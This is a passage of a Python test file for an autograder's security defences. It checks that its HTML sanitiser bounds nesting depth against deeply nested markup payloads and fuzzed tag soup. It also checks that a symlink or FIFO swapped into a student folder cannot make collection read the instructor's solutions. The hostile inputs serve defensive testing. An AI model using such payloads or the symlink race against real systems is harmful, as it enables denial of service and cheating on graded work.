# that attack-pages left uncommitted was bypassed by all but the first): html5ever's work on a token
# grows with the depth, so 10,000 of them (40 to 200 kB) took 0.5 to 3.4 s, a megabyte minutes
NESTING = {"div": "<div>", "rt": "<rt>", "li-dd": "<li><dd>", "div-self-closing": "<div/>",
           "end-tag-in-attribute": '<div title="</div>">', "end-tag-in-comment": "<div><!--</div>-->",
           "end-tag-in-bogus-comment": "<div><?</div>", "misnamed-end": "<div><x_1></x_2>"}


@pytest.mark.parametrize("name", sorted(NESTING))
def test_nh3_never_parses_html_nested_deeper_than_the_bound(name):
    """What nh3 builds from student HTML nests at most MAX_DEPTH deep (checked on nh3's own output
    with an allowlist that keeps every element), whatever the markup; the text is kept."""
    import nh3

    from autograder import sanitise

    payload = NESTING[name] * 2000 + "deep text"
    kept = sanitise.clean(payload)
    assert _depth(kept) <= 128 and "deep text" in kept, _depth(kept)
    assert sanitise.MAX_DEPTH == 128
    everything = nh3.Cleaner(tags={"div", "rt", "li", "dd", "x_1", "x_2", "p", "span"}, attributes={"*": {"title"}},
                             clean_content_tags=set(), strip_comments=True)
    built = everything.clean(sanitise.balanced(payload))         # the tree html5ever builds from it
    assert _depth(built) <= sanitise.MAX_DEPTH, _depth(built)


def test_tag_soup_stays_within_the_bound():
    """Random tag soup of the constructs HTML parsers treat specially: html5ever's tree from what
    nh3 is given is never deeper than twice the bound (tables and formatting elements it reopens add
    a little), and the course's markdown is cleaned exactly as nh3 alone cleans it."""
    import random

    import nh3
    import nbformat

    from autograder import sanitise

    parts = ["<div>", "</div>", "<p>", "<li>", "<dd>", "<dt>", "<rt>", "<optgroup>", "<option>", "<table>", "<tr>",
             "<td>", "</td>", "<b>", "</b>", "<i>", "<a>", "</a>", "<math>", "<mi>", "<mtext>", "<svg>", "<select>",
             "<template>", "<style>", "</style>", "<textarea>", "<!--", "-->", "<?", "</", ">", '"', "'", "/>",
             "<x_1>", "</x_2>", " title=", "<span ", "<ruby>", "<button>", "<form>", "<object>", "text", "<", "="]
    tags = {"div", "p", "li", "dd", "dt", "rt", "optgroup", "option", "table", "tbody", "tr", "td", "b", "i", "a",
            "math", "mi", "mtext", "svg", "select", "template", "span", "ruby", "button", "form", "object"}
    everything = nh3.Cleaner(tags=tags, attributes={"*": {"title"}}, clean_content_tags=set(), strip_comments=True)
    rng = random.Random(1234)
    for _ in range(150):
        soup = "".join(rng.choice(parts) for _ in range(3000))
        assert _depth(everything.clean(sanitise.balanced(soup))) <= 2 * sanitise.MAX_DEPTH
    from nbconvert.filters.markdown_mistune import MarkdownWithMath

    for f in sorted(Path(__file__).parent.parent.glob("solutions/*/*.ipynb")):
        for cell in nbformat.read(f, as_version=4).cells:
            if cell.cell_type == "markdown":
                html_ = MarkdownWithMath(renderer=sanitise._markdown_renderer({})).render(cell.source)
                assert sanitise.clean(html_) == sanitise.CONTENT.clean(html_), (f.name, cell.source[:80])


def test_a_folder_swapped_for_a_link_after_the_listing_is_not_read(course, tmp_path):
    """collect of a folder students can write (an exchange's inbound, a shared drive) listed a
    student's folder, then opened the notebook by its path: a folder turned into a symlink to
    solutions/ in between was read through, and the instructor's notebook collected as the student's."""
    from autograder.collect import Report, _folder_items

    src = tmp_path / "inbound"
    (src / "bob" / A).mkdir(parents=True)
    (src / "bob" / A / NB).write_text(nb("bob"))
    (item,) = _folder_items(src, Report())
    (src / "bob" / A / NB).unlink()
    (src / "bob" / A).rmdir()
    (src / "bob" / A).symlink_to(FIXTURES / A, target_is_directory=True)      # the swap
    with pytest.raises(OSError):
        item.read()
    (src / "bob" / A).unlink()
    (src / "bob" / A).mkdir()
    (src / "bob" / A / NB).symlink_to(FIXTURES / A / NB)                      # the same for the file
    with pytest.raises(OSError):
        item.read()
    (src / "bob" / A / NB).unlink()
    os.mkfifo(src / "bob" / A / NB)                                            # and a FIFO: no blocking
    with pytest.raises(OSError):
        item.read()
